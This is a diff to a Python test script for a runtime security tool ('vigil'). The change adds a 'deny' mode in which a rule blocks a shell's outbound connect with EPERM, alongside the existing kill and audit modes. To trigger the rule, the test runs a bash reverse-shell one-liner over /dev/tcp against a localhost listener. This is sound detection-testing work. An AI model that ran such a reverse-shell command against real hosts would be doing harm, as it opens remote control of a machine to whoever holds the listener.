@@ -13,10 +13,13 @@ enforce: the shell is killed by SIGKILL at its connect, the listener gets
 no command output, and the rule's alert says vigil.action=killed.
 name:    the same with the rule on proc.name (the process's comm, which the
 kernel keeps per process from its exec) instead of proc.exepath.
+deny:    the rule on proc.name with `action: deny` and the listener's port
+(fd.sport): connect fails with EPERM at the cgroup connect hook, the
+listener sees no connection, the shell is not killed; vigil.action=denied.
 audit:   the shell runs the listener's command (its output arrives), and the
 alert says vigil.action=would kill.
 
-usage: check_acting_rules.py VIGIL enforce|audit|name"""
+usage: check_acting_rules.py VIGIL enforce|audit|name|deny"""
 import json
 import os
 import shutil
@@ -25,6 +28,7 @@ import subprocess
 import sys
 import tempfile
 import threading
+import time
 import uuid
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
@@ -36,7 +40,7 @@ RULE = """- rule: Shell connects out
   output: Shell connected out (proc.name=%proc.name proc.pid=%proc.pid proc.exepath=%proc.exepath)
   priority: CRITICAL
   tags: [vigil_test]
-  action: kill
+  action: {action}
 """
 
 
@@ -78,11 +82,21 @@ def main():
         shell = os.path.join(tmp, name)
         shutil.copy2(shutil.which("bash"), shell)
         rules = os.path.join(tmp, "act.yaml")
+        srv = socket.socket()
+        srv.bind(("127.0.0.1", 0))
+        srv.listen(1)
+        port = srv.getsockname()[1]
+        test = "proc.exepath in (%s)" % shell
+        if mode == "name":
+            test = "proc.name = %s" % name
+        elif mode == "deny":
+            test = "proc.name = %s and fd.sport = %d" % (name, port)
         with open(rules, "w") as f:
-            f.write(RULE.format(test="proc.name = %s" % name if mode == "name" else "proc.exepath in (%s)" % shell))
+            f.write(RULE.format(test=test, action="deny" if mode == "deny" else "kill"))
         chk = subprocess.run([vigil, "rules", "check", rules], capture_output=True, text=True)
-        want_sel = "process name (comm) In %s" % name if mode == "name" else "matchBinaries In %s" % shell
-        if chk.returncode != 0 or want_sel not in chk.stdout or "Sigkill" not in chk.stdout:
+        want_sel = "process name (comm) In %s" % name if mode in ("name", "deny") else "matchBinaries In %s" % shell
+        want_act = "Override argError -1" if mode == "deny" else "Sigkill"
+        if chk.returncode != 0 or want_sel not in chk.stdout or want_act not in chk.stdout:
             print("FAIL: rules check does not show the compiled rule:\n%s\n%s" % (chk.stdout, chk.stderr))
             return 1
         argv = [vigil, "run", "-r", rules, "-o", "json_output=true", "--stats",
@@ -93,15 +107,17 @@ def main():
         if not v.wait_ready():
             print("FAIL: " + livelib.start_failure(v))
             return 1
-        srv = socket.socket()
-        srv.bind(("127.0.0.1", 0))
-        srv.listen(1)
-        port = srv.getsockname()[1]
         got = {}
         t = threading.Thread(target=listen, args=(srv, nonce, got), daemon=True)
         t.start()
         p = subprocess.run([shell, "-c", "exec %s -i >& /dev/tcp/127.0.0.1/%d 0>&1" % (shell, port)],
                            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=30)
+        if mode == "deny":
+            time.sleep(1)   # a connection that got through would be accepted by now
+            try:
+                srv.shutdown(socket.SHUT_RDWR)  # wakes accept()
+            except OSError:
+                pass
         t.join(25)
         srv.close()
         want = "out-42-%s" % nonce
@@ -118,7 +134,13 @@ def main():
             return None
 
         a = v.wait_for(alert, 20)
-        if mode != "audit":
+        if mode == "deny":
+            if p.returncode in (-9, 0) or b"Operation not permitted" not in p.stderr:
+                fails.append("the shell's connect was not denied with EPERM: status %s, stderr %r" %
+                             (p.returncode, p.stderr))
+            if got.get("connected"):
+                fails.append("the listener got a connection")
+        elif mode != "audit":
             if p.returncode != -9:
                 fails.append("the shell was not killed by SIGKILL: status %s, stderr %r" % (p.returncode, p.stderr))
             if want in data:
@@ -129,7 +151,7 @@ def main():
             if want not in data:
                 fails.append("audit mode: the shell did not run the command (listener got %r, shell status %s)" %
                              (data, p.returncode))
-        expect = "would kill" if mode == "audit" else "killed"
+        expect = {"audit": "would kill", "deny": "denied"}.get(mode, "killed")
         if not a:
             fails.append("no alert of the rule for %s" % shell)
         else:
@@ -155,8 +177,9 @@ def main():
         if not evs:
             fails.append("no process_kprobe event for the shell's connect")
         elif not any(k.get("function_name", "").endswith("sys_connect") and
-                     k.get("action") == "KPROBE_ACTION_SIGKILL" for k in evs):
-            fails.append("the policy event does not report sys_connect / KPROBE_ACTION_SIGKILL: %s" % evs[0])
+                     k.get("action") == ("KPROBE_ACTION_OVERRIDE" if mode == "deny" else "KPROBE_ACTION_SIGKILL")
+                     for k in evs):
+            fails.append("the policy event does not report sys_connect and the action: %s" % evs[0])
     finally:
         if v:
             v.stop()
@@ -164,8 +187,9 @@ def main():
     for f in fails:
         print("FAIL: " + f)
     if not fails:
-        print("ok: %s: %s" % (mode, "shell ran, alert says it would have been killed" if mode == "audit"
-                              else "shell killed at connect, no command output"))
+        print("ok: %s: %s" % (mode, {"audit": "shell ran, alert says it would have been killed",
+                                     "deny": "connect denied (EPERM), no connection, alert says denied"}
+                              .get(mode, "shell killed at connect, no command output")))
     return 1 if fails else 0
 
 
